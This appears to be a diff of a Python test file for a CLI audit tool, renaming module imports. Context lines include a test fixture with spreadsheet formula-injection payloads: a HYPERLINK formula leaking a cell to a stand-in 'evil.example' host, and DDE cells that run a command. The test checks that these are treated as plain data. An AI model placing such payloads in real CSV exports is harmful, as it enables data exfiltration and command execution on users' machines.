@@ -3,7 +3,7 @@
 Each bad input must exit 2 with a message naming the file, line and field where it can, print no
 traceback, and leave no output behind. Inputs that are odd but valid (all ties, a single vignette,
 a BOM, formula-looking CSV cells, a 5 MB text) must audit cleanly instead. Commands run in-process
-through click's CliRunner; a few end-to-end checks run the real ``python -m audit.cli``.
+through click's CliRunner; a few end-to-end checks run the real ``python -m honestci.audit.cli``.
 """
 
 from __future__ import annotations
@@ -23,7 +23,7 @@ import pytest
 import yaml
 from click.testing import CliRunner
 
-from audit.cli import main
+from honestci.audit.cli import main
 from synthetic_study import JUDGE, POLICY, claim_dict, study_rows, write_jsonl, write_study
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
@@ -588,7 +588,7 @@ def test_byte_order_marks_are_accepted_in_jsonl_csv_and_the_claim(tmp_path):
 
 
 def test_formula_looking_csv_cells_are_kept_as_plain_data(tmp_path):
-    from audit.io import load_table
+    from honestci.audit.data.io import load_table
 
     formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0"]
@@ -600,7 +600,7 @@ def test_formula_looking_csv_cells_are_kept_as_plain_data(tmp_path):
 
 
 def test_csv_written_by_honestci_keeps_formula_cells_verbatim(tmp_path):
-    # Decision (documented in judges.tables.write_table and docs/data-formats.md): honestci's CSV files
+    # Decision (documented in honestci.judges.tables.write_table and docs/data-formats.md): honestci's CSV files
     # are data for programs, so cells are written verbatim; prefixing a quote would corrupt ids and
     # texts on the round trip. Open them in a spreadsheet only through a text import.
     source = tmp_path / "j.csv"
@@ -610,7 +610,7 @@ def test_csv_written_by_honestci_keeps_formula_cells_verbatim(tmp_path):
     written = pd.read_csv(tmp_path / "out.csv", dtype=str)
     assert written.loc[0, "response_first"] == '=HYPERLINK("http://x")'
     assert written.loc[0, "response_second"] == "@SUM(A1)"
-    from judges import tables
+    from honestci.judges import tables
 
     assert "formula" in tables.write_table.__doc__
     assert "formula" in (REPO_ROOT / "docs" / "data-formats.md").read_text()
@@ -656,7 +656,7 @@ def test_inputs_in_every_format_give_the_same_audit(tmp_path):
 def test_real_process_exits_2_without_traceback(case_id, tmp_path):
     case = next(c for c in ALL_BAD if c.id == case_id)
     args = case.build(tmp_path)
-    result = subprocess.run([sys.executable, "-m", "audit.cli", *args], capture_output=True, text=True,
+    result = subprocess.run([sys.executable, "-m", "honestci", *args], capture_output=True, text=True,
                             cwd=REPO_ROOT, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
     assert result.returncode == 2, result.stderr
     assert "Traceback" not in result.stderr and "\nerror: " in "\n" + result.stderr
